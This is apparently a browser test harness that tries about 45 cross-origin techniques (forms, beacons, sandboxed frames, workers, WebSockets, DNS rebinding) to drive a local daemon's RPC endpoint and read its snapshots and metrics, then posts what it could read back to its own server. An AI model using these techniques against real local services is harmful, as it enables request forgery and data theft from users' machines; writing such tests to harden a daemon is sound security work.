/**
 * What a page tries, to reach a daemon that isn't its own. It runs in a browser; its server
 * (page-server.ts) gives it these in its address: `target`, the daemon's origin; `home`, its own server;
 * `tag`, which begins the name of each volume; `snapshot`, which exists.
 */
const asked = new URLSearchParams(location.search);
const target = asked.get("target");
const home = asked.get("home");
const tag = asked.get("tag");
const download = `${target}/snapshots/download?id=${asked.get("snapshot")}`;
const rpc = `${target}/_mistify_RPC_`;

const LIMIT_MS = 10_000;
/** How long an element may take that says nothing when it is done. */
const ELEMENT_MS = 4_000;

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const create = (id) =>
  `{"method":"ImageStore.CreateVolume","params":[{"id":"${tag}-${id}","size":8}],"id":1}`;
const untyped = (text) => new Blob([text]);
/** What a script can read of a reply. */
const textOf = async (replying) => (await replying).text();
const post = (url, body, options = {}) => textOf(fetch(url, { method: "POST", body, ...options }));
const noCors = { mode: "no-cors" };

/** Adds an element, and says "loaded" if it loads. */
function load(name, attributes) {
  return new Promise((resolve) => {
    const element = Object.assign(document.createElement(name), attributes);
    element.onload = () => resolve("loaded");
    element.onloadedmetadata = () => resolve("loaded");
    element.onerror = () => resolve("");
    setTimeout(resolve, ELEMENT_MS, "");
    document.body.append(element);
  });
}

/** A frame, and what this page can see in it. */
async function frame(attributes) {
  const element = Object.assign(document.createElement("iframe"), attributes);
  document.body.append(element);
  await sleep(ELEMENT_MS);
  // A frame that has loaded nothing shows an empty page of this origin.
  return element.contentDocument?.body?.textContent ?? "";
}

/** A form of one field whose name and value make `text` when they are sent as text/plain. */
function formOf(url, enctype, text) {
  const [name, value] = [text.slice(0, -2), text.slice(-2)];
  return `<form method=post enctype="${enctype}" action="${url}"><input name='${name},"x":"' value='"${value}'></form>`;
}

async function submit(url, enctype, text) {
  const name = `frame${Math.random()}`;
  const seen = frame({ name });
  const holder = document.createElement("div");
  holder.innerHTML = formOf(url, enctype, text);
  document.body.append(holder);
  Object.assign(holder.firstChild, { target: name }).submit();
  return seen;
}

/** A frame without an origin, in which `script` runs. */
function sandboxed(script) {
  return frame({ sandbox: "allow-scripts allow-forms", srcdoc: `<body><script>${script}</script>` });
}

function worker(script) {
  return new Promise((resolve) => {
    const running = new Worker(URL.createObjectURL(new Blob([script])));
    running.onmessage = ({ data }) => resolve(data);
    running.onerror = () => resolve("");
  });
}

function xhr(url, body) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open(body === undefined ? "GET" : "POST", url);
    request.onloadend = () => resolve(request.responseText);
    request.send(body);
  });
}

function socket(url) {
  return new Promise((resolve) => {
    const opened = new WebSocket(url);
    opened.onopen = () => {
      opened.send(create("websocket"));
      resolve("opened");
    };
    opened.onerror = () => resolve("");
  });
}

function events(url) {
  return new Promise((resolve) => {
    const source = new EventSource(url);
    source.onopen = () => resolve("opened");
    source.onerror = () => {
      source.close();
      resolve("");
    };
  });
}

async function beacon(body) {
  navigator.sendBeacon(rpc, body);
  await sleep(ELEMENT_MS);
  return "";
}

/** Follows a link into a frame, so that this page stays. */
async function click(attributes) {
  const name = `frame${Math.random()}`;
  document.body.append(Object.assign(document.createElement("iframe"), { name }));
  const link = Object.assign(document.createElement("a"), { target: name, ...attributes });
  document.body.append(link);
  link.click();
  await sleep(ELEMENT_MS);
  return "";
}

const json = (id) => new Blob([create(id)], { type: "application/json" });
const redirected = `${home}/redirect?to=${encodeURIComponent(rpc)}`;
const inFrame = (id) => `fetch("${rpc}",{method:"POST",mode:"no-cors",body:new Blob(['${create(id)}'])})`;

/** By name; each gives the text that it could read. */
const attacks = {
  "fetch-json": () => post(rpc, json("fetch-json")),
  "fetch-untyped": () => post(rpc, untyped(create("fetch-untyped"))),
  "fetch-text": () => post(rpc, create("fetch-text")),
  "fetch-odd-type": () => post(rpc, new Blob([create("fetch-odd-type")], { type: ";x" })),
  "fetch-2.0": () =>
    post(
      `${target}/rpc`,
      untyped(
        `[{"jsonrpc":"2.0","method":"CreateVolume","params":{"id":"${tag}-fetch-2.0","size":8},"id":1}]`,
      ),
    ),
  "no-cors-untyped": () => post(rpc, untyped(create("no-cors-untyped")), noCors),
  "no-cors-json": () => post(rpc, json("no-cors-json"), noCors),
  "no-cors-no-referrer": () =>
    post(rpc, untyped(create("no-cors-no-referrer")), { ...noCors, referrerPolicy: "no-referrer" }),
  "no-cors-keepalive": () =>
    post(rpc, untyped(create("no-cors-keepalive")), { ...noCors, keepalive: true, credentials: "include" }),
  "no-cors-get": () => textOf(fetch(download, noCors)),
  "no-cors-download": () => post(`${target}/snapshots/download`, `{"id":"${asked.get("snapshot")}"}`, noCors),
  "fetch-put": () => textOf(fetch(rpc, { method: "PUT", body: untyped(create("fetch-put")) })),
  "fetch-redirected": () => post(redirected, untyped(create("fetch-redirected")), noCors),
  "fetch-healthz": () => textOf(fetch(`${target}/healthz`)),
  "fetch-readyz": () => textOf(fetch(`${target}/readyz`)),
  "fetch-metrics": () => textOf(fetch(`${target}/metrics`)),
  "fetch-download": () => textOf(fetch(download)),
  "xhr-untyped": () => xhr(rpc, untyped(create("xhr-untyped"))),
  "xhr-get": () => xhr(`${target}/readyz`),
  "beacon-untyped": () => beacon(untyped(create("beacon-untyped"))),
  "beacon-text": () => beacon(create("beacon-text")),
  "form-text": () => submit(rpc, "text/plain", create("form-text")),
  "form-urlencoded": () => submit(rpc, "application/x-www-form-urlencoded", create("form-urlencoded")),
  "form-multipart": () => submit(rpc, "multipart/form-data", create("form-multipart")),
  "form-redirected": () => submit(redirected, "text/plain", create("form-redirected")),
  "form-sandboxed": () =>
    sandboxed(
      `document.body.innerHTML=${JSON.stringify(formOf(rpc, "text/plain", create("form-sandboxed")))};document.forms[0].submit()`,
    ),
  "fetch-sandboxed": () => sandboxed(inFrame("fetch-sandboxed")),
  "fetch-data-url": () => frame({ src: `data:text/html,<script>${inFrame("fetch-data-url")}</script>` }),
  "worker-untyped": () =>
    worker(
      `fetch("${rpc}",{method:"POST",body:new Blob(['${create("worker-untyped")}'])}).then((r)=>r.text()).then(postMessage,()=>postMessage(""))`,
    ),
  "img-download": () => load("img", { src: download }),
  "img-metrics": () => load("img", { src: `${target}/metrics`, referrerPolicy: "no-referrer" }),
  "script-readyz": () => load("script", { src: `${target}/readyz` }),
  "script-module": () => load("script", { src: `${target}/healthz`, type: "module" }),
  "style-metrics": () => load("link", { rel: "stylesheet", href: `${target}/metrics` }),
  "prefetch-download": () => load("link", { rel: "prefetch", href: download }),
  "preload-download": () => load("link", { rel: "preload", as: "image", href: download }),
  "object-readyz": () => load("object", { data: `${target}/readyz`, type: "image/png" }),
  "video-download": () => load("video", { src: download }),
  "iframe-readyz": () => frame({ src: `${target}/readyz` }),
  "iframe-metrics": () => frame({ src: `${target}/metrics`, sandbox: "allow-same-origin" }),
  "ping-rpc": () => click({ href: "about:blank", ping: rpc }),
  "link-download": () => click({ href: download, download: "stolen" }),
  "events-metrics": () => events(`${target}/metrics`),
  "websocket-rpc": () => socket(`${target.replace("http", "ws")}/rpc`),
};

/** Tells the page's own server something, for as long as the browser can't: it drops requests when the network changes. */
async function tell(path, options) {
  for (;;) {
    try {
      return await fetch(`${home}${path}`, { ...noCors, ...options });
    } catch {
      await sleep(200);
    }
  }
}

/** A page whose name changes its address asks its own server for that, and goes on. */
if (asked.has("rebind")) await tell("/rebind");

const tries = Object.entries(attacks).map(async ([name, attack]) => {
  const late = sleep(LIMIT_MS).then(() => "");
  return [name, await Promise.race([attack().catch(() => ""), late])];
});
const report = Object.fromEntries(await Promise.all(tries));
await tell("/report", { method: "POST", body: JSON.stringify(report) });
